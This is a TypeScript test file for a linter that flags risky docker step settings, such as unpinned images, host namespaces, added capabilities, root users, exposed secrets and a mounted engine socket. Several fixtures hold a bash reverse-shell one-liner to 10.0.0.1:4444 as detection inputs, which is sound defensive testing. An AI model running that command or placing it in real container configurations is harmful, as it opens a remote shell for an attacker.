import { describe, expect, test } from 'vitest';
import { issuesOf } from '../../support/judged.ts';

const DIGEST = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';

/** The issues of one rule with a docker step that has these settings. */
function found(rule: string, settings: string, spec?: string) {
  const steps = `- name: a\n  type: docker\n  with: {image: "web@sha256:${DIGEST}", ${settings}}`;
  return issuesOf(rule, spec === undefined ? { steps } : { steps, spec });
}

describe('a docker step', () => {
  test.for([
    ['web', 'medium'],
    ['registry.example:5000/web:latest', 'medium'],
    ['web:1.4.2', 'low'],
  ])('is not pinned by %s', ([image, severity]) => {
    const steps = `- {name: a, type: docker, with: {image: "${image}"}}`;

    expect(issuesOf('image-unpinned', { steps })).toMatchObject([{ severity, step: 'a' }]);
  });

  test.for([`web:1.4.2@sha256:${DIGEST}`, `sha256:${DIGEST}`, '${{ inputs.image }}'])(
    'is pinned by %s, as far as anybody can know',
    (image) => {
      const steps = `- {name: a, type: docker, with: {image: "${image}"}}`;

      expect(
        issuesOf('image-unpinned', { steps, spec: 'inputs: {properties: {image: {type: string}}}' }),
      ).toEqual([]);
    },
  );

  test.for([
    ['network-egress', 'network: bridge', '/with/network'],
    ['network-egress', 'pull: missing', '/with/pull'],
    ['host-namespaces', 'network: host', '/with/network'],
    ['host-path', 'volumes: ["/etc:/host:ro"]', '/with/volumes'],
    ['added-capability', 'capAdd: [NET_ADMIN]', '/with/capAdd'],
    ['cap-sys-admin', 'capAdd: [CAP_SYS_ADMIN]', '/with/capAdd'],
    ['root-user', 'user: "0:0"', '/with/user'],
    ['root-user', 'user: root', '/with/user'],
    ['reverse-shell', 'command: [sh, -c, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]', '/with/command/2'],
    [
      'reverse-shell',
      'entrypoint: [sh, -c], command: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]',
      '/with/command/0',
    ],
    [
      'reverse-shell',
      'entrypoint: [bash, -ic, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]',
      '/with/entrypoint/2',
    ],
  ])('raises %s by %s', ([rule = '', settings = '', field = '']) => {
    expect(found(rule, settings).map((issue) => issue.field)).toContain(`/spec/handlers/0${field}`);
  });

  test('that mounts the socket of its engine is critical', () => {
    expect(found('host-path', 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]')).toMatchObject([
      { severity: 'critical' },
    ]);
  });

  test.for([
    ['network-egress', 'network: none, pull: never'],
    ['host-path', 'volumes: ["data:/data"]'],
    ['added-capability', 'capAdd: [NET_BIND_SERVICE]'],
    ['root-user', 'user: "1000:1000"'],
    ['system-writes', 'command: [sh, -c, "echo x > /etc/hosts"]'],
  ])('does not raise %s by %s', ([rule = '', settings = '']) => {
    expect(found(rule, settings)).toEqual([]);
  });

  test('may have a network where the package declares what it calls, and be fetched from a declared registry', () => {
    const spec = 'validation: {network: {egress: ["registry-1.docker.io:443"]}}';

    expect(found('network-egress', 'network: bridge, pull: missing', spec)).toEqual([]);
  });

  test('shows a secret in its environment, and not in files', () => {
    const spec = 'inputs: {properties: {token: {type: string, writeOnly: true}}}';

    expect(found('secret-exposed', 'env: {TOKEN: "${{ inputs.token }}"}', spec)).toMatchObject([
      { severity: 'medium', what: expect.stringContaining('inspect the container') },
    ]);
    expect(found('secret-exposed', 'files: {TOKEN: "${{ inputs.token }}"}', spec)).toEqual([]);
    expect(found('secret-exposed', 'command: [a, "${{ inputs.token }}"]', spec)).toMatchObject([
      { severity: 'high' },
    ]);
  });

  test('without a network cannot need permissions in a cluster', () => {
    const spec = 'validation: {permissions: [{resources: [configmaps], verbs: [get]}]}';

    expect(found('permission-unneeded', 'command: [report]', spec)).toHaveLength(1);
    expect(found('permission-unneeded', 'command: [report], network: host', spec)).toEqual([]);
  });
});
